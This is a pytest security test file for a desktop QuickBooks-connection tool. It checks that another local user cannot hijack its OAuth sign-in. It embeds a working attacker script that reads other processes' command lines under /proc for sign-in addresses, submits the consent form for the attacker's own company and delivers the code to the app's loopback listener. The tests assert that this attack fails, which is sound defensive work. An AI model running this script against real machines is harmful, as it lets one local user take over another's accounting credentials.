"""Another user of the same computer tries to connect your new credential to a company of their choosing.

The attack (a security review's finding V1): read the sign-in address from the browser's command line in
/proc, approve the app at Intuit for the attacker's own company, and send that code to qbdesk's loopback
listener. It runs here for real, as a throwaway uid, against `qbdesk create` and the window's Create page,
with a stand-in `xdg-open` on PATH that, like a real browser launcher, holds the address on its command line.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from qbdesk.core.destinations import Destination
from qbdesk.demo import register_apps
from qbdesk.store.settings import SettingsStore
from qbdesk.store.vault import SECRETS_FILENAME, FileVault

from consent import approve_in_browser

OTHER_UID = 54321
SYSTEM_PYTHON = "/usr/bin/python3"
REPOSITORY = Path(__file__).resolve().parents[2]
pytestmark = [
    pytest.mark.reliability,
    pytest.mark.skipif(
        not sys.platform.startswith("linux") or os.geteuid() != 0 or not Path(SYSTEM_PYTHON).exists(),
        reason="the attack runs as a second user: needs Linux, root and a system Python",
    ),
]

# The attacker: watches every process's command line for a sign-in address (or a local address that leads
# to one), approves access at Intuit for its own company, and delivers the code to the listener.
ATTACKER = r"""
import html.parser, json, os, sys, time, urllib.error, urllib.parse, urllib.request

company, seconds = sys.argv[1], float(sys.argv[2])
leaked = sys.argv[3:]  # addresses the attacker got some other way
report = {"seen": [], "handoffs": [], "delivered": []}

class NoFollow(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None

opener = urllib.request.build_opener(NoFollow)

def fetch(url, data=None):
    try:
        answer = opener.open(url, data=data, timeout=5)
        return answer.status, answer.headers, answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read().decode("utf-8", "replace")
    except Exception as error:
        return None, {}, type(error).__name__

class Form(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.action, self.fields = "", {}
    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.action = attrs.get("action", "")
        elif tag == "input" and attrs.get("type") == "hidden":
            self.fields[attrs["name"]] = attrs.get("value", "")

def addresses():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                arguments = handle.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for argument in arguments:
            if argument.startswith("http") and ("state=" in argument or "127.0.0.1" in argument):
                yield argument

def attack(address):
    if "state=" not in address:  # a local address: ask where it leads
        status, headers, _ = fetch(address)
        report["handoffs"].append(status)
        address = headers.get("Location") if status in (302, 303) else None
        if not address or "state=" not in address:
            return
    status, headers, page = fetch(address)
    if status != 200:
        return
    form = Form()
    form.feed(page)
    data = dict(form.fields, decision="connect", company=company)
    status, headers, _ = fetch(urllib.parse.urljoin(address, form.action), urllib.parse.urlencode(data).encode())
    if status in (302, 303):
        status, _, body = fetch(headers["Location"])
        report["delivered"].append(status)

seen = set()
deadline = time.monotonic() + seconds
for address in leaked:
    seen.add(address)
    report["seen"].append(address)
    attack(address)
while time.monotonic() < deadline and not report["delivered"]:
    for address in set(addresses()) - seen:
        seen.add(address)
        report["seen"].append(address)
        attack(address)
    time.sleep(0.02)
print(json.dumps(report))
"""


def launch_attacker(company: str, seconds: float, *leaked: str) -> subprocess.Popen:
    return subprocess.Popen(
        ["setpriv", f"--reuid={OTHER_UID}", f"--regid={OTHER_UID}", "--clear-groups", SYSTEM_PYTHON, "-c", ATTACKER,
         company, str(seconds), *leaked],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={"PATH": "/usr/bin:/bin"},
    )


def attacker_report(attacker: subprocess.Popen) -> dict:
    out, err = attacker.communicate(timeout=60)
    assert attacker.returncode == 0, err
    return json.loads(out)


@pytest.fixture
def browser_launcher(tmp_path):
    """A stand-in for xdg-open: records the address it was given and keeps it on its command line a while."""
    folder = tmp_path / "bin"
    folder.mkdir()
    record = tmp_path / "opened.txt"
    script = folder / "xdg-open"
    script.write_text(f'#!/bin/sh\nprintf "%s\\n" "$1" >> "{record}"\nsleep 6\n')
    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return folder, record


def wait_for_address(record: Path, timeout: float = 30) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if record.exists() and record.read_text().strip():
            return record.read_text().splitlines()[0]
        time.sleep(0.05)
    raise AssertionError("the browser was never started")


def test_another_user_cannot_connect_a_command_line_sign_in_to_their_company(emulator, tmp_path, browser_launcher):
    folder, record = browser_launcher
    data = tmp_path / "data"
    overrides = register_apps(emulator, "victim")
    SettingsStore(data, FileVault(data / SECRETS_FILENAME), {}).save_secrets_in_file(True)
    env = {k: v for k, v in os.environ.items() if not k.startswith("QBDESK_")}
    env.update(overrides, QBDESK_DATA_DIR=str(data), PYTHON_KEYRING_BACKEND="keyring.backends.fail.Keyring",
               PATH=f"{folder}:{os.environ['PATH']}")
    mine, theirs = emulator.companies[0].realm_id, emulator.companies[-1].realm_id
    attacker = launch_attacker(theirs, 8)
    create = subprocess.Popen(
        [sys.executable, "-m", "qbdesk", "create", "--name", "Payroll", "--sandbox"],
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=REPOSITORY,
    )
    try:
        opened = wait_for_address(record)
        report = attacker_report(attacker)  # the attacker has done what it could
        assert "state=" not in opened  # the browser's command line holds no sign-in secret
        assert all("state=" not in seen for seen in report["seen"])
        assert report["delivered"] in ([], [None])  # a code that reached the listener would have an answer
        page = approve_in_browser(opened, company=mine)  # the real user, in their browser
        assert page.status_code == 200
        out, err = create.communicate(timeout=60)
    finally:
        if create.poll() is None:
            create.kill()
        if attacker.poll() is None:
            attacker.kill()
    assert create.returncode == 0, err
    assert out.rstrip().endswith(f"({mine}).")


def test_even_with_the_sign_in_address_another_user_cannot_deliver_a_code(emulator, tmp_path):
    """Should the address leak some other way, the listener still takes no code from another user."""
    from qbdesk.services.context import AppContext

    data = tmp_path / "data"
    overrides = register_apps(emulator, "victim")
    context = AppContext.open(data, overrides, vault=FileVault(data / SECRETS_FILENAME))
    try:
        credential = context.credentials.create_pending("Payroll", Destination.SANDBOX)
        start = context.signin.begin(credential.id)
        mine, theirs = emulator.companies[0].realm_id, emulator.companies[-1].realm_id
        report = attacker_report(launch_attacker(theirs, 0, start.url))
        assert report["delivered"] in ([], [None])
        assert context.credentials.get(credential.id).realm_id is None
        # The attempt is untouched: the user's own approval still connects their company.
        assert context.signin.waiting_on(credential.id)
        assert approve_in_browser(start.url, company=mine).status_code == 200
        assert context.credentials.get(credential.id).realm_id == mine
    finally:
        context.close()


def test_another_user_cannot_connect_the_create_pages_sign_in_to_their_company(
    qtbot, world, tmp_path, browser_launcher, monkeypatch
):
    from PySide6.QtCore import Qt

    from qbdesk.ui.main_window import MainWindow

    from steps import walk_to_stage_two

    folder, record = browser_launcher
    monkeypatch.setenv("PATH", f"{folder}:{os.environ['PATH']}")
    context = world.open()
    window = MainWindow.opened(context)
    qtbot.addWidget(window)
    window.show()
    mine, theirs = world.emulator.companies[0].realm_id, world.emulator.companies[-1].realm_id
    attacker = launch_attacker(theirs, 8)
    try:
        page = walk_to_stage_two(qtbot, window, "Payroll")
        qtbot.mouseClick(page.sign_in.go_button, Qt.MouseButton.LeftButton)
        qtbot.waitUntil(lambda: record.exists() and bool(record.read_text().strip()), timeout=30000)
        opened = wait_for_address(record)
        report = attacker_report(attacker)
        assert "state=" not in opened
        assert report["delivered"] in ([], [None])
        assert "Connected" not in page.sign_in.status_text()
        assert approve_in_browser(opened, company=mine).status_code == 200
        qtbot.waitUntil(lambda: "Connected" in page.sign_in.status_text(), timeout=15000)
        assert mine in page.sign_in.status_text()
    finally:
        if attacker.poll() is None:
            attacker.kill()
        window.close()
        context.close()
